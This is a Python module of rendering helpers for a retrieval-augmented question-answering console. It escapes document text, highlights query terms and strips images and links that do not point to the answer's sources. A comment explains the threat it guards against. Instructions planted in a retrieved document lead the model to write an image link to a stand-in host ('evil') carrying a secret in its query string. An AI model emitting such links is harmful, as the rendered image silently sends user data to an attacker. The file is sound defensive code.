"""Pure text -> Markdown/HTML helpers for answers and source cards (no Streamlit call, so they
are unit-testable; durations are formatted by console.kit). Everything that comes from documents
or users is escaped here."""
from __future__ import annotations

import html
import re
from typing import Iterable

from backend.engine.query_engine import STAGES, SourceChunk
# The backend's own tokenizer, so highlighting marks exactly the terms that BM25 matched.
from backend.text import TOKEN_RE, has_cjk, terms
from console.i18n import N_, t
from console.kit import duration

_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]<>()#+\-.!|$~:])")

STAGE_COLORS = {
    "cache": "#8d99ae", "embed": "#4e79a7", "retrieve": "#59a14f", "rerank": "#f1a340",
    "generate": "#e15759", "other": "#c9c3bd",
}
STAGE_NAMES = {"cache": N_("cache"), "embed": N_("embed"), "retrieve": N_("retrieve"), "rerank": N_("rerank"),
               "generate": N_("generate"), "other": N_("other")}


def escape_md(text: str) -> str:
    """Show text literally in st.markdown (no emphasis, links, LaTeX or :directives:)."""
    return _MD_SPECIAL.sub(r"\\\1", text)


def answer_md(text: str, kind: str, source_urls: Iterable[str] = ()) -> str:
    """Model answers keep their Markdown (lists, bold) but never turn `$` into LaTeX, and show no
    image and no link other than the sources' own (see `without_remote_links`); extractive answers
    are document sentences and are shown literally."""
    return without_remote_links(text, source_urls).replace("$", r"\$") if kind == "llm" else escape_md(text)


# An instruction planted in a document can make the model write ![x](http://evil/?q=<secret>): the
# browser fetches the image the moment the answer renders, and the URL carries the data out. So an
# answer renders no image at all, links only to its sources' own URLs, and shows everything else
# as plain text. Code is left alone (Markdown renders no link inside it), but only code that
# Markdown is sure to read as code: a fence at a line start, or a single-backtick span not
# preceded by a backslash; anything in doubt is escaped.
_FENCE = r"(?m:^ {0,3}(?P<fence>`{3,}|~{3,})[^\n]*\n[\s\S]*?(?:^ {0,3}(?P=fence)[ \t]*$|\Z))"
_SPAN = r"(?<![`\\])`[^`\n]+`(?!`)"
_LINK = r"(?P<link>(?P<img>!?)\[(?P<label>[^\[\]\n]*)\]\(\s*<?(?P<url>[^()\s<>]*)>?(?:\s+\"[^\"\n]*\")?\s*\))"
_AUTO = r"<(?P<auto>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^<>\s]*)>"
_BARE = r"(?P<bare>(?:[A-Za-z][A-Za-z0-9+.-]{1,31}://|www\.)[^\s<>]*[^\s<>.,;:!?'\")\]*_~]|[\w.+-]+@[\w-]+\.[\w.-]+)"
_ANSWER_PARTS = re.compile(f"(?P<code>{_FENCE}|{_SPAN})|{_LINK}|{_AUTO}|{_BARE}")
_PLAIN_SPECIAL = re.compile(r"([\\\[\]<])")


def source_urls(sources: Iterable[SourceChunk]) -> set[str]:
    """The web addresses the sources themselves come from: the only links an answer may show."""
    return {s.source for s in sources if s.source.startswith(("http://", "https://"))}


def without_remote_links(markdown: str, allowed: Iterable[str] = ()) -> str:
    """`markdown` with no image and no link except to an `allowed` URL: the rest shown as text."""
    allowed = set(allowed)
    out, pos = [], 0
    for m in _ANSWER_PARTS.finditer(markdown):
        out.append(_PLAIN_SPECIAL.sub(r"\\\1", markdown[pos:m.start()]))
        pos = m.end()
        if m.group("code"):
            out.append(m.group())
        elif m.group("link") and not m.group("img") and m.group("url") in allowed:
            out.append(f"[{escape_md(m.group('label'))}]({m.group('url')})")
        elif (m.group("auto") or m.group("bare")) in allowed:
            out.append(m.group())
        else:
            out.append(escape_md(m.group()))
    out.append(_PLAIN_SPECIAL.sub(r"\\\1", markdown[pos:]))
    return "".join(out)


_MARKER = re.compile(r"\\?\[(\d{1,3})\\?\]")


def with_citation_badges(markdown: str, n_sources: int) -> str:
    """[n] markers (escaped or not) as small numbered badges matching the source cards."""
    def badge(m: re.Match) -> str:
        n = int(m.group(1))
        return f":blue-badge[{n}]" if 1 <= n <= n_sources else m.group(0)
    return _MARKER.sub(badge, markdown)


# --- highlighting --------------------------------------------------------------------------
def match_spans(text: str, question: str) -> list[tuple[int, int]]:
    """Character spans of `text` that match the question's index terms: English words whose
    stems match, and Chinese character bigrams the question shares (single characters are
    too common to be worth marking)."""
    wanted = set(terms(question))
    if not wanted:
        return []
    spans: list[tuple[int, int]] = []
    for m in TOKEN_RE.finditer(text):
        tok = m.group()
        if has_cjk(tok[0]):
            for i in range(len(tok) - 1):
                if tok[i : i + 2].lower() in wanted:
                    spans.append((m.start() + i, m.start() + i + 2))
        elif any(t in wanted for t in terms(tok)):
            spans.append(m.span())
    merged: list[tuple[int, int]] = []
    for s, e in sorted(spans):
        if merged and s <= merged[-1][1]:
            merged[-1] = (merged[-1][0], max(e, merged[-1][1]))
        else:
            merged.append((s, e))
    return merged


def highlight(text: str, question: str) -> str:
    """HTML of `text` with the question's terms in <mark>; escaped first, so safe."""
    out, pos = [], 0
    for s, e in match_spans(text, question):
        out.append(html.escape(text[pos:s]))
        out.append(f"<mark>{html.escape(text[s:e])}</mark>")
        pos = e
    out.append(html.escape(text[pos:]))
    return "".join(out).replace("\n", "<br>")


# --- source cards --------------------------------------------------------------------------
def _score(value: float | None, digits: int, rank: int | None = None) -> str:
    if value is None:
        return f'<span class="rag-none" title="{html.escape(t("this retriever did not return the chunk"))}">—</span>'
    extra = f' <span class="rag-rank">#{rank}</span>' if rank else ""
    return f"{value:.{digits}f}{extra}"


def score_columns(fusion: str, rerank_metric: str) -> list[tuple[str, str, str]]:
    """(score key, label, what it measures) in card order."""
    return [
        ("dense", t("dense"), t("cosine similarity")),
        ("sparse", t("sparse"), "BM25"),
        ("fused", t("fused"), fusion.upper()),
        ("rerank", t("rerank"), rerank_metric),
    ]


def source_card(src: SourceChunk, question: str, fusion: str, rerank_metric: str, cited: bool) -> str:
    """One numbered source: its [n] matches the markers in the answer and in the prompt."""
    e = html.escape
    digits = {"dense": 3, "sparse": 2, "fused": 4 if fusion == "rrf" else 3, "rerank": 3}
    ranks = {"dense": src.dense_rank, "sparse": src.sparse_rank}
    head = "".join(f'<th title="{e(what)}">{e(label)}<span>{e(what)}</span></th>'
                   for _, label, what in score_columns(fusion, rerank_metric))
    cells = "".join(f"<td>{_score(src.scores.get(key), digits[key], ranks.get(key))}</td>"
                    for key, _, _ in score_columns(fusion, rerank_metric))
    badge = f'<span class="rag-cited">{e(t("cited"))}</span>' if cited else ""
    title = e(src.title) if src.title else f"<i>{e(t('untitled'))}</i>"
    section = f' <span class="rag-section">§ {e(src.section)}</span>' if src.section else ""
    meta = " · ".join([
        t("doc <code>{doc}</code>", doc=e(src.doc_id)),
        t("chunk <code>{chunk}</code>", chunk=e(src.chunk_id)),
        t("chars {start}–{end}", start=f"{src.start:,}", end=f"{src.end:,}"),
        t("rank {rank}", rank=src.rank),
        *([t("source <code>{source}</code>", source=e(src.source))] if src.source else []),
    ])
    return (
        f'<div class="rag-card{" rag-card-cited" if cited else ""}" id="src-{src.rank}">'
        f'<div class="rag-card-head"><span class="rag-num">{src.rank}</span>'
        f'<span class="rag-title">{title}</span>{section}{badge}</div>'
        f'<div class="rag-meta">{meta}</div>'
        f'<table class="rag-scores"><tr>{head}</tr><tr>{cells}</tr></table>'
        f'<div class="rag-text">{highlight(src.text, question)}</div></div>'
    )


# --- latency -------------------------------------------------------------------------------
def latency_parts(latency_ms: dict[str, float]) -> list[tuple[str, float]]:
    """Stages in pipeline order, plus 'other' for the time no stage accounts for."""
    parts = [(s, latency_ms[s]) for s in STAGES if s != "total" and s in latency_ms]
    total = latency_ms.get("total", sum(v for _, v in parts))
    rest = total - sum(v for _, v in parts)
    if rest >= 1:
        parts.append(("other", rest))
    return parts


def latency_bar(latency_ms: dict[str, float]) -> str:
    """A stacked horizontal bar, one segment per stage, with a legend that has the numbers."""
    parts = latency_parts(latency_ms)
    total = latency_ms.get("total") or sum(v for _, v in parts) or 1.0
    name = {s: html.escape(t(STAGE_NAMES[s]) if s in STAGE_NAMES else s) for s, _ in parts}
    segs = "".join(
        f'<span style="width:{max(0.6, 100 * v / total):.2f}%;background:{STAGE_COLORS[s]}" title="{name[s]} {duration(v)}"></span>'
        for s, v in parts
    )
    legend = "".join(f'<span><i style="background:{STAGE_COLORS[s]}"></i>{name[s]} {duration(v)}</span>' for s, v in parts)
    return (f'<div class="rag-lat"><div class="rag-lat-bar">{segs}</div>'
            f'<div class="rag-lat-legend">{legend}<b>{html.escape(t("total {duration}", duration=duration(total)))}</b>'
            '</div></div>')
